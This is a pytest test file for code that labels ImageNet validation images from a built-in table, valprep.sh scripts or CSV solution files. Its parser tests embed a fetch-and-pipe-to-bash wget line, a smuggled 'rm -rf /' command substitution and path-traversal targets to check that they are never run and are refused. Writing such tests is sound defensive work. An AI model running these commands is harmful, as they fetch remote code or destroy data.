"""Validation labels: from the built-in table, valprep.sh or LOC_val_solution.csv, and complete."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from dataset.archive.labels import (
    NUM_VAL,
    builtin_labels,
    is_real_val,
    label_val,
    match_labels,
    pack_labels,
    parse_labels,
    read_labels,
)
from dataset.errors import DataError, UserError
from tests.dataset.tars import make_val, write_solution, write_valprep

REAL_NAMES = [f"ILSVRC2012_val_{i:08d}.JPEG".encode() for i in range(1, NUM_VAL + 1)]


def test_the_built_in_table_is_the_published_one() -> None:
    labels = builtin_labels()
    assert list(labels) == REAL_NAMES
    assert len(set(labels.values())) == 1000
    assert all(list(labels.values()).count(wnid) == 50 for wnid in (b"n01440764", b"n15075141"))
    # Well-known lines of the published list.
    assert labels[b"ILSVRC2012_val_00000001.JPEG"] == b"n01751748"
    assert labels[b"ILSVRC2012_val_00000293.JPEG"] == b"n01440764"
    assert labels[b"ILSVRC2012_val_00050000.JPEG"] == b"n02437616"
    text = b"".join(wnid + b"\n" for wnid in labels.values())
    assert hashlib.sha256(text).hexdigest() == SHA256_OF_THE_LIST


SHA256_OF_THE_LIST = "313fc3f23c864dde9183c9a368809065765dd1b657a6904fded44e3e46d34604"


def test_the_packed_table_is_small_and_packs_back() -> None:
    labels = list(builtin_labels().values())
    assert len(pack_labels(labels)) < 90_000


def test_the_real_names_need_no_label_file(tmp_path: Path) -> None:
    wnids = label_val(REAL_NAMES[::-1], tmp_path / "val.tar")
    assert wnids[-1] == b"n01751748"


@pytest.mark.parametrize(
    "names",
    [
        REAL_NAMES[:-1],
        [*REAL_NAMES[:-1], b"ILSVRC2012_val_00050001.JPEG"],
        [*REAL_NAMES, b"ILSVRC2012_val_00050001.JPEG"],
        [*REAL_NAMES[1:], REAL_NAMES[1]],
        REAL_NAMES[:12],
    ],
)
def test_the_built_in_table_is_for_exactly_the_real_names(
    tmp_path: Path, names: list[bytes]
) -> None:
    assert not is_real_val(names)
    with pytest.raises(UserError, match="labels are unknown"):
        label_val(names, tmp_path / "val.tar")


def test_a_label_file_wins_over_the_built_in_table(tmp_path: Path) -> None:
    own = {name.decode(): "n99999999" for name in REAL_NAMES}
    write_valprep(tmp_path / "valprep.sh", own)
    assert set(label_val(REAL_NAMES, tmp_path / "val.tar")) == {b"n99999999"}


def test_both_kinds_of_file_give_the_same_labels(tmp_path: Path) -> None:
    _, labels = make_val(40)
    write_valprep(tmp_path / "a.sh", labels)
    write_solution(tmp_path / "b.csv", labels)
    expected = {name.encode(): wnid.encode() for name, wnid in labels.items()}
    assert read_labels(tmp_path / "a.sh") == read_labels(tmp_path / "b.csv") == expected


def test_valprep_is_read_in_all_its_dialects_and_never_run(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\r\nset -e\nwget -qO- https://example.org/x | bash\n"
        f"touch {tmp_path}/was_run\nmkdir -p n01\n"
        "mv a.JPEG n01/\n  mv  ./b.JPEG   n01\nmv 'c.JPEG' \"n02/\"\nmv -v d.JPEG n02/ # why\n"
        "mv e.JPEG ./n03/;\r\n# mv f.JPEG n04/\nmvn package x/\n"
    )
    assert parse_labels(script, "valprep.sh") == {
        b"a.JPEG": b"n01",
        b"b.JPEG": b"n01",
        b"c.JPEG": b"n02",
        b"d.JPEG": b"n02",
        b"e.JPEG": b"n03",
    }
    assert not (tmp_path / "was_run").exists()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "no labels"),
        ("echo nothing\n", "no labels"),
        ("mv a.JPEG\n", r"x:1 is not `mv IMAGE CLASS/`"),
        ("mv a.JPEG ../n01/\n", "x:1"),
        ("mv a.JPEG /n01/\n", "x:1"),
        ("mv a.JPEG ../\n", "x:1"),
        ("mv a.JPEG n01/sub/\n", "x:1"),
        ("mv a.JPEG $(rm -rf /)/\n", "x:1"),
        ("mv a.JPEG n01/\nmv a.JPEG n02/\n", "x:2 says n02 for a.JPEG, an earlier line n01"),
        ("ImageId,PredictionString\na,\n", "x:2"),
        ("ImageId,PredictionString\na,../x 1 2 3 4\n", "x:2"),
        ("ImageId,PredictionString\n", "no labels"),
    ],
)
def test_bad_label_files_are_refused_by_line(text: str, words: str) -> None:
    with pytest.raises(UserError, match=words):
        parse_labels(text, "x")


def test_images_without_a_label_are_named_and_counted() -> None:
    names = [b"a.JPEG", b"b.JPEG", b"c.JPEG"]
    with pytest.raises(DataError, match=r"no label for 2 images \(b.JPEG, c.JPEG\)"):
        match_labels(names, {b"a.JPEG": b"n01"}, "valprep.sh")


def test_labels_without_an_image_are_named_and_counted() -> None:
    labels = dict.fromkeys((b"a", b"b", b"c", b"d", b"e"), b"n01")
    with pytest.raises(
        DataError, match=r"labels 4 images \(b, c, d, …\) that are not in the archive"
    ):
        match_labels([b"a"], labels, "valprep.sh")


def test_with_problems_the_rest_is_labelled() -> None:
    problems: list[str] = []
    wnids = match_labels([b"a", b"x"], {b"a": b"n01", b"b": b"n02"}, "valprep.sh", problems)
    assert wnids == [b"n01", b""]
    assert len(problems) == 2
